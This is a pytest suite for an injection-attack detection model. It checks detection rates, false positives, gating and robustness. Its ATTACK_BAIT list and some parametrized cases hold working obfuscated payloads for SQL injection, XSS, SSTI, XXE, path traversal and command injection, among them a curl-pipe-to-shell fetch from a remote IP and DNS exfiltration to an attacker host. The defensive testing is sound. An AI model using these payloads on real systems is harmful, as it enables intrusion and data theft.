"""Tests of the shipped semantic model (guard.engine.semantic) on the held-out split of dev.jsonl.

Training is never run here and numpy is not needed: the split comes from
``guard.engine.semantic_train``, whose numpy imports live inside the fitting functions. The
floors are the held-out figures measured when the model was trained, minus a small margin; if a
retrain (for instance after a change to the normaliser) moves them, update them from the
trainer's report.
"""

from __future__ import annotations

import gzip
import json
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guard.engine import semantic_train
from guard.engine.normalize import normalize
from guard.engine.semantic import (
    CLASSES,
    MODEL_RESOURCE,
    NGRAM_SIZES,
    SemanticAnalyzer,
    SemanticVerdict,
    canonical,
    default_analyzer,
    extract,
    select_windows,
)

CORPUS = Path(__file__).parent / "corpora" / "dev.jsonl"
THRESHOLD = 0.7

# Held-out TPR per class at 0.7 as measured at training time (in the comments), minus a margin
# of about one point on the big classes and two or three lines on the small ones. Values under
# the engine's length gate count as missed: the engine never shows them to the model (its
# rules catch ";id"), so the committed model before the template lines joined training read
# cmdi 76/89 and file_upload 68/75 this way. Bare layout tags ({% block body %}) are template
# source the model no longer flags on their own (ssti 53/54 before).
TPR_FLOORS = {
    "sqli": 0.955,  # 916/949 = 96.5%
    "xss": 0.97,  # 1114/1135 = 98.1% (1122 before benign markup joined training)
    "cmdi": 0.83,  # 76/89 = 85.4%
    "path_traversal": 0.96,  # 686/707 = 97.0%
    "ssti": 0.90,  # 50/54 = 92.6%
    "crlf": 0.97,  # 124/124
    "ldap": 0.94,  # 48/50
    "xml": 0.93,  # 32/32
    "nosql": 0.95,  # 48/48
    "file_upload": 0.86,  # 67/75 = 89.3%
}
FPR_CEILING = 0.005
HARD_SOURCE_FPR_CEILING = {"synthetic:handwritten": 0.01, "synthetic:python-docstrings": 0.01}

# False-positive bait written for these tests: documentation and forum prose, none of it in the
# corpus. Every line must stay under the threshold.
BENIGN_BAIT = [
    "select a union station",
    "drop ceiling tiles",
    "rm -rf meaning",
    "O'Brien & Sons",
    "To select a union station platform, follow the signs from the main hall.",
    "Drop ceiling tiles are usually 2' x 4' and sit in a metal grid.",
    "What does rm -rf mean? I saw it in a forum post and I'm scared to try it.",
    "O'Brien & Sons, est. 1921 - plumbing, heating & gas.",
    "In SQL, the UNION operator combines the result sets of two SELECT statements.",
    "Re: my order #12345 -- still waiting (3 weeks!) & no reply from support :(",
    "Can anyone recommend a good book on Python? I've read 'Fluent Python' and loved it.",
    "Set the variable with export PATH=$PATH:/usr/local/bin and restart your shell.",
    "He said: \"I'll be there at 5; don't wait up.\"",
    "Call cursor.execute(query, params) instead of formatting the string yourself.",
    "Tip: press Ctrl+C to cancel, or type 'exit' and hit Enter.",
    "The {name} placeholder is replaced by the user's first name.",
    "Our receipts print {{ order.total|currency }} at the bottom of the page.",
    "Mustache loops read {{#lines}}{{sku}}{{/lines}} in the invoice partial.",
    "Order by date (newest first) or by price (lowest first).",
    "Thanks!! Worked like a charm :) -- Mike",
    "Delete from the list any item that's out of stock, then update the totals.",
    "Is there a way to select all rows where the price is between 10 and 20?",
    "The script tag loads the analytics bundle asynchronously, so the page renders first.",
    "Returns -1 if the key is missing; otherwise the index (0-based) of the first match.",
    "My grandma's recipe: 2 cups flour, 1/2 cup sugar, and a pinch of salt & love <3",
    "Use the `--force` flag only if you know what you're doing!",
    "lol that's what she said :P",
    "Can someone explain the difference between <div> and <span>?",
    "I paid $5 for 2 coffees; worth it!",
    "email me at john.o'neil@example.com",
    "Price range: 10-20 (incl. tax) | free shipping",
    "The function returns a dict like {'a': 1, 'b': 2} when called with keys=True.",
    "Run `ls -la` to list the files, then `cat README.md` to read it.",
    "See ../docs/install.md for the installation steps.",
    "```js",
    "``` sh",
    "See the `Django project <https://www.djangoproject.com/>`_ for details.",
]

# Obfuscated attacks written for these tests (not corpus lines). The model need not catch all.
ATTACK_BAIT = [
    ("sqli", "1'/**/oR/**/'a'='a"),
    ("sqli", "-1 UnIoN/*!50000SeLeCt*/ 1,group_concat(table_name) FROM information_schema.tables"),
    ("sqli", "admin'-- -"),
    ("sqli", "1;select pg_sleep(10)--"),
    ("sqli", "x' AND extractvalue(1,concat(0x7e,version()))-- "),
    ("xss", "<svg/onload=alert`1`>"),
    ("xss", "<img src=x oNeRrOr=confirm(document.domain)>"),
    ("xss", '"><details open ontoggle=prompt(1)>'),
    ("xss", "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>"),
    ("cmdi", ";cat${IFS}/etc/passwd"),
    ("cmdi", "$(curl -s http://203.0.113.9/x.sh|sh)"),
    ("cmdi", "a`id`b"),
    ("path_traversal", "....//....//....//etc/shadow"),
    ("path_traversal", "..%252f..%252f..%252fwindows/win.ini"),
    ("ssti", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("ssti", "<%= 7*7 %>${{7*7}}"),
    ("crlf", "%0d%0aSet-Cookie:%20admin=true"),
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("xml", '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///c:/windows/win.ini">]><r>&e;</r>'),
    ("nosql", '{"login": {"$regex": "^adm"}, "password": {"$ne": null}}'),
    ("file_upload", "avatar.pHp7%00.png"),
    ("sqli", "') OR EXISTS(SELECT 1 FROM users WHERE name LIKE 'a%')#"),
    ("sqli", "1%27%20%2F%2A%2A%2FUnIoN%2F%2A%2A%2FSeLeCt%2F%2A%2A%2F1,2,3"),
    ("sqli", "1 AnD (SeLeCt 1 FrOm (SeLeCt CoUnT(*),CoNcAt(0x3a,(SeLeCt database()))x)a)"),
    ("xss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("xss", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">'),
    ("xss", "<body onpageshow=top['al'+'ert'](1)>"),
    ("cmdi", "127.0.0.1 && powershell -enc SQBFAFgA"),
    ("cmdi", "|| nslookup $(whoami).attacker.example"),
    ("path_traversal", "/static/..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("path_traversal", "php://filter/convert.base64-encode/resource=index.php"),
    ("ssti", "{{request.application.__globals__.__builtins__.__import__('os').popen('id')}}"),
    ("ssti", "#set($x=$class.inspect('java.lang.Runtime').type.getRuntime().exec('id'))"),
    ("crlf", "/redirect?url=%0d%0aLocation:%20https://evil.test"),
    ("nosql", "username[$ne]=x&password[$gt]="),
    ("ldap", "admin)(&(objectClass=user)(|(password=*"),
    ("xml", '<!DOCTYPE d [<!ENTITY % dtd SYSTEM "http://evil.test/x.dtd"> %dtd;]><d>&send;</d>'),
    ("file_upload", "shell.aspx;.jpg"),
]
ATTACK_BAIT_FLOOR = 35  # 38 of 38 caught when the model was trained


@pytest.fixture(scope="module")
def analyzer() -> SemanticAnalyzer:
    return default_analyzer()


@pytest.fixture(scope="module")
def corpus() -> list[semantic_train.Line]:
    return semantic_train.load_corpus(CORPUS)


@pytest.fixture(scope="module")
def heldout(corpus: list[semantic_train.Line]) -> list[semantic_train.Line]:
    return semantic_train.split(corpus)[1]


@pytest.fixture(scope="module")
def report(
    analyzer: SemanticAnalyzer, heldout: list[semantic_train.Line]
) -> semantic_train.Report:
    return semantic_train.evaluate(analyzer, heldout, THRESHOLD)


def test_shipped_model_loads(analyzer: SemanticAnalyzer) -> None:
    assert analyzer.loaded
    assert default_analyzer() is analyzer


def test_shipped_model_is_small() -> None:
    path = Path(semantic_train.DEFAULT_OUTPUT)
    assert path.name == MODEL_RESOURCE
    assert path.stat().st_size <= 3 * 1024 * 1024


def test_split_is_stable_and_covers_every_class(corpus: list[semantic_train.Line]) -> None:
    train, heldout = semantic_train.split(corpus)
    assert len(train) + len(heldout) == len(corpus)
    assert 0.18 < len(heldout) / len(corpus) < 0.22
    assert {line.cls for line in heldout} == set(CLASSES)
    assert semantic_train.split(corpus)[1] == heldout


def test_split_keeps_near_duplicates_together() -> None:
    variants = ["1' OR '1'='1", "1' or '1'='1", "１' OR  '1'='1", "7' or '7'='7"]
    assert len({semantic_train.is_heldout(v) for v in variants}) == 1


@pytest.mark.parametrize("cls", sorted(TPR_FLOORS))
def test_heldout_tpr_floor(report: semantic_train.Report, cls: str) -> None:
    detected, total = report.detected[cls]
    assert total > 0
    assert detected / total >= TPR_FLOORS[cls], f"{cls}: {detected}/{total}"


def test_heldout_fpr_ceiling(report: semantic_train.Report) -> None:
    flagged, total = report.fpr()
    assert flagged / total <= FPR_CEILING, f"{flagged}/{total}"
    for source, ceiling in HARD_SOURCE_FPR_CEILING.items():
        flagged, total = report.false_positives[source]
        assert flagged / total <= ceiling, f"{source}: {flagged}/{total}"


def test_unseen_generated_templates(analyzer: SemanticAnalyzer) -> None:
    """Template source and template injections drawn with a seed training never used: the model
    tells them apart by the names a tag reaches (4 of 1,000 benign and 517 of 600 attacks
    flagged when trained; the model before them flagged 308 and 562)."""
    seed = semantic_train.TEMPLATE_SEED + 1
    benign = semantic_train.benign_templates(semantic_train.TEMPLATE_LINES, seed)
    attacks = semantic_train.attack_templates(semantic_train.ATTACK_TEMPLATE_LINES, seed)
    assert all(line.label == "benign" for line in benign)
    assert all(line.cls == "ssti" for line in attacks)
    result = semantic_train.evaluate(analyzer, benign + attacks, THRESHOLD)
    flagged, total = result.fpr()
    assert flagged / total <= 0.01, f"{flagged}/{total}"
    caught, count = result.detected["ssti"]
    assert caught / count >= 0.8, f"{caught}/{count}"


def test_heldout_class_accuracy(report: semantic_train.Report) -> None:
    correct = sum(hits for hits, _ in report.correct_class.values())
    detected = sum(hits for hits, _ in report.detected.values())
    assert correct / detected >= 0.985  # 3148/3161 = 99.6% when trained


@pytest.mark.parametrize(
    ("text", "present"),
    [
        ("```bash", False),
        ("``` python", False),
        ("`Perl docs <https://perldoc.perl.org/>`_", False),
        ("a`id`b", True),
        ("Run `ls -la` first", True),
        ("x;cat /etc/passwd", True),
        ("$(whoami)", True),
        ("&&id", True),
        ("; dir", True),
        ("page=2&id=15&sort=asc", False),
        ("| id: {key}, | value: {task} |", False),
        ("| Name | Type | Default |", False),
        ("| ls -la | x | y |", True),
    ],
)
def test_metachar_command_ignores_markdown_code(text: str, present: bool) -> None:
    # A backtick counts as the unix_backtick confirmer counts it: before a lowercase command and
    # not beside another backtick (a fence or a reST link is not a substitution). A command word
    # before "=" or ":" is a name or a key, and a table row's pipes run nothing.
    assert ("cmd:metachar-command" in extract(text)[2]) is present


@pytest.mark.parametrize("text", BENIGN_BAIT)
def test_benign_bait_scores_low(analyzer: SemanticAnalyzer, text: str) -> None:
    verdict = analyzer.analyze(normalize(text))
    assert verdict.probability < THRESHOLD, verdict


def test_attack_bait_recall(analyzer: SemanticAnalyzer) -> None:
    caught = [
        (cls, text)
        for cls, text in ATTACK_BAIT
        if analyzer.analyze(normalize(text)).probability >= THRESHOLD
    ]
    assert len(caught) >= ATTACK_BAIT_FLOOR, set(ATTACK_BAIT) - set(caught)


# Values that take every branch of the scoring path: CR, tabs and blank runs, SQL comments,
# digits next to letters, text beyond latin-1 (the string 3-gram fallback) and Unicode digits.
ENCODING_EDGES = [
    "a\r\nb\r\rSet-Cookie: x=1",
    "tab\there  and   there\x0bend",
    "1/**/UNION/**/SELECT 12ab34, 0x41414141--",
    "caf\u00e9 \u0663\u0664 \u2028 \ue000 \u4e2d\u6587 <script>",
    "\x00\x1c\x1f ../..\\etc/passwd",
    "x",
]


def _sample_values() -> list[str]:
    padding = "lorem ipsum dolor sit amet, " * 200
    return [
        *BENIGN_BAIT,
        *(text for _, text in ATTACK_BAIT),
        *ENCODING_EDGES,
        padding + "\"><script>alert(document.cookie)</script>" + padding,
    ]


@pytest.mark.parametrize("text", _sample_values())
def test_scoring_path_matches_extract(analyzer: SemanticAnalyzer, text: str) -> None:
    # analyze() builds its feature sets in cheaper encodings than extract(), which the trainer
    # uses; both must give the same verdict and the same explanation.
    value = normalize(text)
    window = select_windows(value)
    slow = analyzer._score_sets(extract(window, NGRAM_SIZES), window, explain=True)
    assert analyzer.explain(value) == slow
    verdict = analyzer.analyze(value)
    assert (verdict.attack_type, verdict.probability) == (slow.attack_type, slow.probability)
    assert verdict.features == ()


@pytest.mark.parametrize(
    ("lowered", "view"),
    [
        ("a12b0034 5 007", "a0b0 0 0"),
        ("x\u0663\u06644 y", "x0 y"),
        ("tab\there  and\x0bend", "tab here and end"),
        ("a\r\n\r\nb\n\nc", "a\nb\nc"),
    ],
)
def test_canonical_folds_digits_blanks_and_newlines(lowered: str, view: str) -> None:
    assert canonical(lowered) == view


def test_verdict_shape(analyzer: SemanticAnalyzer) -> None:
    verdict = analyzer.explain(normalize("<img src=x onerror=alert(document.cookie)>"))
    assert verdict.attack_type == "xss"
    assert 0.0 <= verdict.probability <= 1.0
    assert verdict.probability == round(verdict.probability, 4)
    assert 0 < len(verdict.features) <= 8
    assert all(isinstance(name, str) and weight > 0 for name, weight in verdict.features)
    assert analyzer.analyze("hello world").features == ()


def test_analyze_is_deterministic(analyzer: SemanticAnalyzer, tmp_path: Path) -> None:
    other = SemanticAnalyzer(semantic_train.DEFAULT_OUTPUT)
    for _, text in ATTACK_BAIT:
        value = normalize(text)
        assert analyzer.analyze(value) == analyzer.analyze(value) == other.analyze(value)


@pytest.mark.parametrize(
    "content",
    [
        None,
        b"",
        b"not json at all",
        b"\x1f\x8b\x08\x00garbage",
        gzip.compress(b'{"format": "guard-semantic/1"}'),
        gzip.compress(b"[1, 2, 3]"),
        gzip.compress(json.dumps({"format": "something-else"}).encode()),
    ],
)
def test_missing_or_corrupt_model_is_benign(tmp_path: Path, content: bytes | None) -> None:
    path = tmp_path / "model.json.gz"
    if content is not None:
        path.write_bytes(content)
    analyzer = SemanticAnalyzer(path)
    assert not analyzer.loaded
    verdict = analyzer.analyze("1' or '1'='1' -- <script>alert(1)</script>")
    assert verdict == SemanticVerdict("benign", 0.0, ())


def test_model_with_wrong_weights_is_rejected(tmp_path: Path) -> None:
    with gzip.open(semantic_train.DEFAULT_OUTPUT) as fh:
        model = json.load(fh)
    first = next(iter(model["blocks"]["ngram"]))
    model["blocks"]["ngram"][first] = [1.0, 2.0]
    path = tmp_path / "model.json.gz"
    path.write_bytes(gzip.compress(json.dumps(model).encode()))
    assert not SemanticAnalyzer(path).loaded


def test_gate_keeps_attack_lines_the_rules_miss(corpus: list[semantic_train.Line]) -> None:
    from guard.engine.detector import DetectionEngine

    analyzer = SemanticAnalyzer(Path("/nonexistent/model.json"))
    rules_only = DetectionEngine()
    attacks = [line for line in corpus if line.label == "attack"]
    gated = [
        line.payload for line in attacks if not analyzer.worth_analyzing(normalize(line.payload))
    ]
    rejected = [p for p in gated if not rules_only.detect(p, semantic=False)["is_threat"]]
    # Plain-word injections are the rules' (most gated lines); what neither reads is label
    # noise ("Comments:", "!", "Time-Based:") and a bare "which python"; see
    # tests/corpora/README.md, "Known weaknesses".
    assert len(gated) > len(rejected)
    assert len(rejected) <= 12, rejected


@pytest.mark.parametrize(
    "text", ["hello world", "Marijnweg 83 5679MR Eckelrade", "The quick brown fox.", "koeman0"]
)
def test_gate_skips_plain_values(text: str) -> None:
    assert not default_analyzer().worth_analyzing(text)


@pytest.mark.parametrize("_cls,text", ATTACK_BAIT)
def test_gate_passes_attack_bait(_cls: str, text: str) -> None:
    assert default_analyzer().worth_analyzing(normalize(text))


def test_long_values_are_bounded(analyzer: SemanticAnalyzer) -> None:
    payload = "<script>alert(document.cookie)</script>"
    padding = "lorem ipsum dolor sit amet, " * 40_000
    for text in (
        padding[:1_000_000],
        "'" * 1_000_000,
        padding[:500_000] + payload + padding[:500_000],
    ):
        started = time.perf_counter()
        verdict = analyzer.analyze(text)
        assert time.perf_counter() - started < 0.5
        assert 0.0 <= verdict.probability <= 1.0


def test_long_value_keeps_its_suspicious_window(analyzer: SemanticAnalyzer) -> None:
    padding = "lorem ipsum dolor sit amet, " * 200
    text = padding + "\"><script>alert(document.cookie)</script>" + padding
    assert analyzer.analyze(text).probability >= THRESHOLD


_LINE_PIECES = st.lists(
    st.one_of(
        st.sampled_from(["--", "..", "0x", "0X", " .", ".", ".php", ".JS  ", "é", "Éa-b:", ";",
                         "'", "\r", "\t", "\x00", "a", "Z", " ", "x.tar.gz", "ß:", "\u212a",
                         "\u0130", "<", "/"]),
        st.characters(exclude_characters="\n"),
    ),
    max_size=12,
).map("".join)


@settings(derandomize=True, max_examples=2000, deadline=None)
@given(st.lists(_LINE_PIECES, max_size=8))
def test_lines_worth_analyzing_agrees_with_the_gate_line_by_line(lines: list[str]) -> None:
    analyzer = default_analyzer()
    expected = [i for i, line in enumerate(lines) if analyzer.worth_analyzing(line)]
    assert analyzer.lines_worth_analyzing("\n".join(lines)) == expected
